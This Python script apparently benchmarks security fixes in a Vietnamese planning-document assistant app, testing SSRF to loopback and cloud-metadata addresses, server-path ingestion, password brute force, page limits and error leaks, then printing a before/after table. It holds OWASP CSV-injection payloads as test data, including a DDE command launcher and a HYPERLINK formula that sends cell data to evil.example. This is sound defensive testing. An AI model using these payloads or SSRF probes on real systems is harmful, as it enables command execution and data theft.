"""Run the admin-box, served-file, limit, spreadsheet and error-message attacks of issue 16 against the real code
and print a Markdown table: each attack, what main did before (from reading and running the code of commit
61bbbe6) and what happens now (measured here).

    .venv/bin/python bench/security_report.py

Builds a small library (one plan, the packaged embedding model) and the app's page in a temporary folder.
"""

from __future__ import annotations

import csv
import io
import os
import sys
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))
os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")
os.environ.setdefault("ANONYMIZED_TELEMETRY", "False")

PASSWORD = "mat-khau-bao-cao"
PLAN = ("ỦY BAN NHÂN DÂN TỈNH BẮC KẠN\nSố: 12/KH-UBND\nKẾ HOẠCH\nNâng cao năng suất tỉnh Bắc Kạn\nI. MỤC TIÊU\n"
        "- Tăng năng suất lao động bình quân 6%/năm.\n")
# The OWASP CSV-injection payloads of tests/common/test_spreadsheet.py.
PAYLOADS = ["=cmd|' /C calc'!A0", "=1+2", "=1+2\";=1+2", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+2", "\r=1+2",
            "   =1+2", "=5", "-5"]


class _Server(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        type(self).hits.append(f"{self.server.server_address[0]}{self.path}")
        if self.path == "/chuyen":
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.2:{self.server.other_port}/noi-bo")
            self.end_headers()
            return
        body = PLAN.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/plain; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:  # noqa: ANN002
        pass


def _serve(host: str) -> ThreadingHTTPServer:
    httpd = ThreadingHTTPServer((host, 0), _Server)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd


def _old_csv_rule(value):  # noqa: ANN001, ANN202 - assistant/facts/tables.py before this change
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@") and not value[1:2].isdigit():
        return "'" + value
    return value


def _fns(demo) -> dict:  # noqa: ANN001
    return {getattr(b.fn, "__name__", ""): b.fn for b in demo.fns.values()}


def main() -> int:  # noqa: PLR0915 - one row after another
    import app as web
    from assistant.admin_auth import AdminSession
    from assistant.service import Assistant
    from common.errors import StoreError
    from common.settings import Settings
    from common.spreadsheet import is_formula_like, neutralise
    from ingest.fetch import fetch_bytes
    from ingest.loaders import load_bytes
    from ingest.pipeline import doc_id_for
    from ingest.url_policy import UrlPolicy
    from tests.ingest.test_ocr_page_limit import _blank_pdf

    rows: list[tuple[str, str, str]] = []
    with tempfile.TemporaryDirectory(prefix="security-") as tmp:
        tmp_path = Path(tmp)
        (tmp_path / "docs").mkdir()
        plan = tmp_path / "docs" / "bac_kan.txt"
        plan.write_text(PLAN, encoding="utf-8")
        settings = Settings(data_dir=tmp_path / "data", admin_password=PASSWORD, admin_session_min=0.01)
        assistant = Assistant.from_settings(settings)
        assistant.library.ingest([str(plan)])
        stale = web.TempFolders.for_data_dir(settings.data_dir).root / "export-old" / "tra-loi.docx"
        stale.parent.mkdir(parents=True, exist_ok=True)
        stale.write_bytes(b"x")
        demo = web.build_app(assistant, settings)
        fns = _fns(demo)
        server = web.create_server(assistant, settings)
        from fastapi.testclient import TestClient

        http = TestClient(server)
        login, ingest, delete = fns["login"], fns["ingest_files"], fns["delete"]
        session, msg = login(PASSWORD, None)

        class _Progress:
            def tqdm(self, xs, desc=""):  # noqa: ANN001, ANN202, ARG002
                return xs

        scan = tmp_path / "scan_40_trang.pdf"
        scan.write_bytes(_blank_pdf(40))
        session, _ = login(PASSWORD, None)  # a fresh session: the first one expires in 0.6 s
        started = time.perf_counter()
        said = ingest([str(scan)], "", session, progress=_Progress())[0]
        took = 1000 * (time.perf_counter() - started)
        rows.append(("Scanned PDF with 40 pages uploaded",
                     "all pages OCR'd inside the request (~1.5-3.7 s/page: 1-2.5 min)",
                     f"request returned in {took:.0f} ms: “{said.splitlines()[0][:120]}”; OCR runs in the "
                     "background with a progress line (PLAN_ASSISTANT_OCR_BACKGROUND_PAGES)"))

        def run_ingest2(url: str) -> str:
            fresh, _ = login(PASSWORD, None)
            return ingest([], url, fresh, progress=_Progress())[0]

        secrets = tmp_path / "server-folder"
        secrets.mkdir()
        (secrets / "ghi_chu.txt").write_text("KẾ HOẠCH\nMật khẩu máy chủ: hunter2", encoding="utf-8")
        n_docs = len(assistant.store.documents())
        said = run_ingest2(str(secrets))
        served = http.get(f"/tai-lieu/{doc_id_for(str(secrets / 'ghi_chu.txt'))}").status_code
        rows.append(("Admin URL box given a server folder or path (`/srv/...`, `/home/...`)",
                     "every .txt/.md/.html/.pdf/.docx under it indexed, then served to anyone at `/tai-lieu/{doc_id}` "
                     "(no login; the id is in every citation's JSON)",
                     f"refused: “{said[2:]}”; documents added: {len(assistant.store.documents()) - n_docs}; "
                     f"`/tai-lieu/…` → {served}"))

        a, b = _serve("127.0.0.1"), _serve("127.0.0.2")
        a.other_port = b.server_address[1]  # type: ignore[attr-defined]
        said = run_ingest2(f"http://127.0.0.1:{a.server_address[1]}/ke-hoach.txt")
        rows.append(("Admin URL box given a loopback URL (SSRF)", "fetched and indexed",
                     f"refused: “{said.splitlines()[0][2:90]}”; requests to the server: {len(_Server.hits)}"))
        _Server.hits.clear()
        first_hop_only = UrlPolicy(allowed_networks=("127.0.0.1/32",))
        try:
            fetch_bytes(f"http://127.0.0.1:{a.server_address[1]}/chuyen", 5, 2**20, first_hop_only)
            what = "fetched"
        except Exception as exc:  # noqa: BLE001
            what = f"refused ({exc.reason})"  # type: ignore[attr-defined]
        rows.append(("Allowed host redirecting to 127.0.0.2 (loopback)",
                     "followed (httpx follow_redirects=True, any host)",
                     f"{what}; requests reaching 127.0.0.2: {sum(h.startswith('127.0.0.2') for h in _Server.hits)}"))
        for addr in ("169.254.169.254", "[::1]", "[::ffff:127.0.0.1]", "[fd00:ec2::254]", "100.100.100.200"):
            try:
                UrlPolicy().check(f"http://{addr}/latest/meta-data/")
                verdict = "allowed"
            except Exception:  # noqa: BLE001
                verdict = "refused"
            rows.append((f"URL to `{addr}` (metadata, loopback, ULA, CGNAT)", "fetched: no address check", verdict))
        for s in (a, b):
            s.shutdown()
            s.server_close()

        doc = next(iter(assistant.store.documents().values()))
        ok = http.get(f"/tai-lieu/{doc.doc_id}").status_code
        assistant.library.original_file(doc.doc_id).unlink()
        gone = http.get(f"/tai-lieu/{doc.doc_id}").status_code
        rows.append(("`/tai-lieu/{id}` of a document indexed from a server path", "served the path itself",
                     f"served the copy kept at ingest ({ok}); with no copy kept: {gone}"))

        results = [login(f"sai-{i}", None)[1] for i in range(50)]
        checked = sum("Sai mật khẩu" in r for r in results)
        logged = [e["outcome"] for e in web.AuditLog(settings.audit_log_path).read() if e["action"] == "login"][-50:]
        rows.append(("50 wrong passwords from one client, as fast as possible", "50 checked, no delay, no log",
                     f"{checked} checked against the password, {50 - checked} refused at once with “{results[-1]}”; "
                     f"audit log: {logged.count('failed')} failed + {logged.count('locked')} locked"))

        expired = AdminSession("s", "127.0.0.1", time.time() - 1)
        said = delete(doc.doc_id, expired)[0]
        rows.append(("Admin action after the session's time", "admin flag never expired",
                     f"refused: “{said}”; document kept: {doc.doc_id in assistant.store.documents()}"))

        export = next(b for b in demo.fns.values() if getattr(b.fn, "__name__", "") == "export_api")
        rows.append(("`export` API called by a remote gradio_client",
                     "returned a server path string (unusable off the server)",
                     f"output component: {type(export.outputs[0]).__name__} (the client downloads the file; "
                     "tests/app/test_export_remote.py)"))

        started = time.perf_counter()
        try:
            load_bytes(_blank_pdf(301), "scan_301_trang.pdf")
            what = "OCR'd"
        except Exception as exc:  # noqa: BLE001
            what = f"refused in {1000 * (time.perf_counter() - started):.0f} ms: {exc.reason}"  # type: ignore[attr-defined]
        rows.append(("Scanned PDF with 301 pages", "all pages OCR'd inside the request (~1.5 s/page: ~8 min)", what))


        respond = fns["respond"]
        reply = list(respond("x" * 5000, [], [], "", "", "", None))[-1][1][-1]["content"]
        rows.append(("Question of 5,000 characters", "answered and cached", f"refused: “{reply}”"))
        reply = list(respond("Còn 2030?", [], [(f"q{i}", None) for i in range(25)], "", "", "", None))[-1][1][-1]
        rows.append(("Question with 25 earlier turns", "answered", f"refused: “{reply['content'][:70]}…”"))
        rows.append(("Stale export left in the app's temp folder", "never removed (mkdtemp, no cleanup)",
                     f"removed at start-up: {not stale.exists()}"))

        up = settings.library_path / "bac_kan_upload.txt"
        up.parent.mkdir(parents=True, exist_ok=True)
        up.write_text(PLAN.replace("12/KH", "13/KH"), encoding="utf-8")
        assistant.library.ingest([str(up)])
        assistant.library.delete(doc_id_for(str(up)))
        rows.append(("Deleting an uploaded document", "its file stayed in data/library", f"file on disk: {up.exists()}"))

        before = sum(is_formula_like(str(_old_csv_rule(p))) for p in PAYLOADS)
        after = sum(isinstance(neutralise(p), str) and is_formula_like(neutralise(p)) for p in PAYLOADS)
        buf = io.StringIO()
        csv.writer(buf).writerow([neutralise(p) for p in PAYLOADS])
        rows.append((f"OWASP CSV-injection payloads ({len(PAYLOADS)}) in CSV/XLSX/feedback",
                     f"{before} reached the tables' CSV/XLSX as formulas (`=1+2`, `=5`, `-5`, leading blanks); "
                     "feedback used another rule", f"{after} reach any file as formulas; numbers stay numbers"))

        def broken(*a, **k):  # noqa: ANN002, ANN003
            raise StoreError("/srv/plans/chroma/chroma.sqlite3: database disk image is malformed")

        assistant.ask_stream = broken  # type: ignore[method-assign]
        reply = list(respond("Mục tiêu?", [], [], "", "", "", None))[-1][1][-1]["content"]
        rows.append(("A failing question (store error with a path)",
                     "“Lỗi kho dữ liệu. (/srv/plans/chroma/chroma.sqlite3: database disk image is malformed)”",
                     f"“{reply}”"))
        del msg, session

    print("| attack / fault | before (main at 61bbbe6) | after (measured) |")
    print("|---|---|---|")
    for attack, before_, after_ in rows:
        after_ = after_.replace("|", "\\|")
        print(f"| {attack} | {before_} | {after_} |")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
